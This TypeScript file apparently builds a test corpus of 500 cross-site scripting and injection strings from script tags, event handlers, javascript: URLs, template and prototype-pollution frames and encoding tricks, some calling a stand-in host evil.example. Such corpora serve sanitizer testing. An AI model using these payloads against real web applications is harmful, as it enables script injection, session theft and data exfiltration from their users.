/** Texts that take effect where text becomes markup, script, address or JSON: 500 of them. */
export function payloads(): string[] {
  const act = [
    'taken=1',
    'window.taken++',
    "top['taken']=1",
    'alert(1)',
    'fetch("//evil.example")',
  ];
  const frames = [
    (js: string) => `<script>${js}</script>`,
    (js: string) => `</script><script>${js}</script>`,
    (js: string) => `<img src=x onerror="${js}">`,
    (js: string) => `<svg onload=${js}>`,
    (js: string) => `"><svg/onload='${js}'>`,
    (js: string) => `' onmouseover='${js}`,
    (js: string) => `<a href="javascript:${js}">x</a>`,
    (js: string) => `<iframe srcdoc="<script>${js}</script>">`,
    (js: string) => `<style>@import '//evil.example'</style>${js}`,
    (js: string) => `<form action=//evil.example><button autofocus onfocus=${js}>`,
    (js: string) => `{{constructor.constructor('${js}')()}}`,
    (js: string) => `\${${js}}`,
    (js: string) => `","x":"<b onclick=${js}>","__proto__":{"y":1}`,
    (js: string) => `\u2028\u2029<i autofocus tabindex=0 onfocus=${js}>`,
    (js: string) => `<object data="data:text/html,<script>${js}</script>">`,
    (js: string) => `<details open ontoggle=${js}>`,
    (js: string) => `<math><mi xlink:href="data:x,<script>${js}</script>">`,
    (js: string) => `]]><!--<img src=x onerror=${js}>-->`,
    (js: string) => `<base href="//evil.example/">${js}`,
    (js: string) => `javascript:${js}//`,
  ];
  const wraps = [
    (text: string) => text,
    (text: string) => text.toUpperCase(),
    (text: string) => `a ${text} b`,
    (text: string) => text.replaceAll('"', '&quot;').replaceAll("'", '`'),
    (text: string) => `\u202e${text}\0`,
  ];
  return wraps.flatMap(wrap => frames.flatMap(frame => act.map(js => wrap(frame(js)))));
}
